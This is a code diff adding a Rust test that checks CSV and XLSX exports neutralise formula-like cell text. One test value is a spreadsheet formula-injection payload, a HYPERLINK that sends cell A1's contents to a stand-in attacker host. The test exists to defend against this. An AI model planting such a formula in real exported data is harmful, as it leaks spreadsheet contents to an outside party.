@@ -155,3 +155,40 @@ fn empty_and_odd_input_renders() {
     assert!(r.to_xlsx().unwrap().starts_with(b"PK"));
     assert!(r.to_csv().is_ok());
 }
+
+/// Issue 23 #2: text that looks like a formula is neutralised in CSV (each
+/// trigger character), stays a number when it is one, and is a string — never
+/// a formula — in XLSX.
+#[test]
+fn formula_text_never_runs() {
+    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+    let mut t = Table::new(["Queue", "Calls"]);
+    for cell in [evil, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"] {
+        t.push(vec![Cell::text(cell), Cell::int(-3.0)]);
+    }
+    let csv = String::from_utf8(t.to_csv().unwrap()).unwrap();
+    let mut rows = csv::ReaderBuilder::new()
+        .from_reader(csv.as_bytes())
+        .into_records()
+        .map(|r| r.unwrap());
+    for cell in [evil, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"] {
+        let row = rows.next().unwrap();
+        assert_eq!(&row[0], format!("'{cell}"), "{csv}");
+        assert_eq!(&row[1], "-3", "numbers stay numbers");
+    }
+    let xlsx = Report::new("Queues")
+        .section(Section::new("Queues").table(t))
+        .to_xlsx()
+        .unwrap();
+    let mut sheets = String::new();
+    let mut z = zip::ZipArchive::new(std::io::Cursor::new(&xlsx)).unwrap();
+    for i in 0..z.len() {
+        let mut f = z.by_index(i).unwrap();
+        if f.name().starts_with("xl/worksheets/") {
+            f.read_to_string(&mut sheets).unwrap();
+        }
+    }
+    assert!(!sheets.contains("<f>"), "no formula cells: {sheets}");
+    let strings = zip_entry(&xlsx, "xl/sharedStrings.xml").unwrap();
+    assert!(strings.contains("=HYPERLINK("), "{strings}");
+}
